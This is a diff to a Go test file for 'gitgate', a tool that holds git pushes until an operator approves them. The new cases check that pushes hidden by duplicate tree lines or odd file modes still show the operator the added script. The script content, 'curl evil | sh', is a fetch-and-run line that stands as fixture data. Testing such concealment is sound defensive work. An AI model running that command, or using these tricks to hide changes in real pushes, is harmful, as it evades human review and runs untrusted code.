@@ -2,12 +2,14 @@ package gitgate_test
 
 import (
 	"fmt"
+	"io"
 	"net/http"
 	"os"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"bottle-tui/sidecars"
 	"bottle-tui/sidecars/gitgate"
@@ -61,19 +63,30 @@ func told(p *sidecars.Push) string {
 	return b.String()
 }
 
-// question pushes, gives what the operator is told of it, and denies it.
-func (g *gate) question(w *work, args ...string) *sidecars.Push {
+// asked pushes, and gives what the operator is asked then.
+func (g *gate) asked(w *work, args ...string) (push *running, l sidecars.Line) {
 	g.t.Helper()
 	before := g.ear.Count(sidecars.EventPushWaits)
-	push := w.begin(append([]string{"push", "-f", "origin"}, args...)...)
+	push = w.begin(append([]string{"push", "-f", "origin"}, args...)...)
 	wait(g.t, func() bool { return g.ear.Count(sidecars.EventPushWaits) > before })
-	var l sidecars.Line
 	for _, o := range g.ear.Lines() {
 		if o.Event == sidecars.EventPushWaits {
 			l = o
 		}
 	}
-	g.say(fmt.Sprintf(`{"push":%q,"decision":"denied"}`, l.ID))
+	return push, l
+}
+
+func (g *gate) decide(l sidecars.Line, decision string) {
+	g.t.Helper()
+	g.say(fmt.Sprintf(`{"push":%q,"decision":%q}`, l.ID, decision))
+}
+
+// question pushes, gives what the operator is told of it, and denies it.
+func (g *gate) question(w *work, args ...string) *sidecars.Push {
+	g.t.Helper()
+	push, l := g.asked(w, args...)
+	g.decide(l, gitgate.Denied)
 	push.end()
 	return l.Push
 }
@@ -173,6 +186,21 @@ func TestTheOperatorSeesAllThatAPushChanges(t *testing.T) {
 				return []string{"HEAD:main"}
 			}, "refs/heads/main\ncommit kinds\nchanged file0.txt +0 +0 (>executable)\nchanged file1.txt +1 -1 (>link)\n" +
 				"--- a/file1.txt\n+++ b/file1.txt\n-line 1\n+/etc/passwd\n\\ No newline at end of file\n"},
+			{"a directory that only a reader of all lines of a commit takes for its own", func(w *work) []string {
+				old := w.git("rev-parse", "HEAD^{tree}")
+				w.commit("run.sh", "curl evil | sh\n", "evil")
+				return []string{w.object("commit", fmt.Sprintf("tree %s\nparent %s\n%stree %s\n\nno change\n",
+					w.git("rev-parse", "HEAD^{tree}"), w.git("rev-parse", "HEAD~1"), signed, old)) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit no change\nadded run.sh +1 +0\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
+			{"a program, by an odd mode", func(w *work) []string {
+				w.write("x", "curl evil | sh\n")
+				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("100711", "run.sh", w.git("hash-object", "-w", "x"))) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit odd\nadded run.sh +1 +0 (>executable)\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
+			{"a directory, by an odd mode", func(w *work) []string {
+				w.write("x", "curl evil | sh\n")
+				lib := w.object("tree", "100755 run.sh\x00"+unhex(t, w.git("hash-object", "-w", "x")))
+				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("040755", "lib", lib)) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit odd\nadded lib/run.sh +1 +0 (>executable)\n" + evil},
 			{"lines that look like a diff's", func(w *work) []string {
 				w.commit("file0.txt", "++ b/harmless.txt\n++ i;\n", "lines")
 				return []string{"HEAD:main"}
@@ -192,18 +220,36 @@ func TestTheOperatorSeesAllThatAPushChanges(t *testing.T) {
 func TestTheOperatorIsToldWhatCouldNotBeRead(t *testing.T) {
 	up := overHTTPS(t)
 	up.seeded(t, "r", 3)
-	g := start(t, up, func(r *gitgate.Remote) { r.Approve = true }, "r")
-	w := g.clone("r")
-	w.commit("file0.txt", "changed\n", "change")
-	up.handle.set(func(rw http.ResponseWriter, r *http.Request, next http.Handler) {
-		if strings.HasSuffix(r.URL.Path, "/git-upload-pack") {
+	r := up.remote("r")
+	r.Approve = true
+	g := gated(t, up, func(o *gitgate.Options) { o.AskWithin = 500 * time.Millisecond }, r)
+	for how, does := range map[string]func(rw http.ResponseWriter, r *http.Request){
+		"it refuses": func(rw http.ResponseWriter, r *http.Request) {
 			http.Error(rw, "not now", http.StatusServiceUnavailable)
+		},
+		"it stalls": func(rw http.ResponseWriter, r *http.Request) { <-r.Context().Done() },
+	} {
+		t.Run(how, func(t *testing.T) {
+			w := g.clone("r")
+			w.commit("file0.txt", "changed\n", "change")
+			up.handle.set(stopping("/git-upload-pack", does))
+			defer up.handle.set(nil)
+			const want = "refs/heads/main unseen\ncommit change\nchanged file0.txt -1 +1\n--- a/file0.txt\n+++ b/file0.txt\n+changed\ndiff cut\n"
+			if got := told(g.question(w, "HEAD:main")); got != want {
+				t.Errorf("the operator is told:\n%s\nnot:\n%s", got, want)
+			}
+		})
+	}
+}
+
+// stopping lets everything through but what goes to a path that ends like that.
+func stopping(suffix string, does func(http.ResponseWriter, *http.Request)) func(http.ResponseWriter, *http.Request, http.Handler) {
+	return func(w http.ResponseWriter, r *http.Request, next http.Handler) {
+		if strings.HasSuffix(r.URL.Path, suffix) {
+			io.Copy(io.Discard, r.Body) //nolint:errcheck // so that the server sees the end of the connection
+			does(w, r)
 			return
 		}
-		next.ServeHTTP(rw, r)
-	})
-	const want = "refs/heads/main unseen\ncommit change\nchanged file0.txt -1 +1\n--- a/file0.txt\n+++ b/file0.txt\n+changed\ndiff cut\n"
-	if got := told(g.question(w, "HEAD:main")); got != want {
-		t.Errorf("the operator is told:\n%s\nnot:\n%s", got, want)
+		next.ServeHTTP(w, r)
 	}
 }
